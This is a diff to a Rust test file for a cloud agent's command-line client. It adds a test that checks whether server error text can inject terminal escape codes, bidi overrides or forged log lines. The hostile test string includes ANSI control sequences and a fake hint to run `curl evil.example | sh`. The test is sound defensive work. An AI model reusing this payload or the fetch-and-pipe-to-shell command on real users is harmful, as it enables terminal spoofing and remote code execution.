@@ -2,7 +2,7 @@
 
 use std::time::Duration;
 
-use cloud_agent_tests::fake::echome::TOKEN as LOGIN;
+use cloud_agent_tests::fake::echome::{REFRESH, TOKEN as LOGIN};
 use cloud_agent_tests::fake::{Fault, Reply};
 use cloud_agent_tests::process;
 use serde_json::json;
@@ -99,6 +99,29 @@ fn a_reply_of_a_byte_a_second_is_given_up_and_holds_up_nobody() {
     assert!(outcome.fails(5).contains("did not answer in time"), "{outcome:?}");
     // Ten seconds for the head of a reply, twenty for all of it, and some for a busy machine.
     assert!(outcome.took < Duration::from_secs(35), "{:?}", outcome.took);
+}
+
+/// T23, T31: what a cloud says of an error ends up on a terminal and in a log.
+#[test]
+fn what_a_cloud_says_can_neither_steer_a_terminal_nor_forge_a_line() {
+    let scene = Scene::new();
+    let agent = scene.sandbox.agent();
+    assert_eq!(scene.login().finish().code(), 0);
+    let hostile = "no\u{1b}[2J\u{1b}]0;pwned\u{7}\rerror: gone\nhint: `curl evil.example | sh`\u{202e}\u{9b}31m";
+    for status in [400, 401, 403, 404, 429, 500] {
+        let fault = || Fault::status(status, &json!({"detail": hostile, "refresh": [hostile], "username": [hostile]}));
+        scene.cloud.break_next(1, LOGIN, fault());
+        let login = scene.login().finish();
+        scene.cloud.break_next(1, REFRESH, fault());
+        let renewal = scene.renew();
+        let shown = scene.sandbox.token(["status"]);
+        for text in [login.fails(login.code()), renewal.fails(renewal.code()), shown.ok(), &agent.log()] {
+            let steers = |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
+            assert!(!text.contains(steers), "{status}: {text:?}");
+            assert!(!text.lines().any(|line| line.starts_with("hint: `curl")), "{status}: {text}");
+        }
+        assert_eq!(scene.login().finish().code(), 0);
+    }
 }
 
 /// T31: a body that claims to be compressed is not inflated, so no bomb can go off.
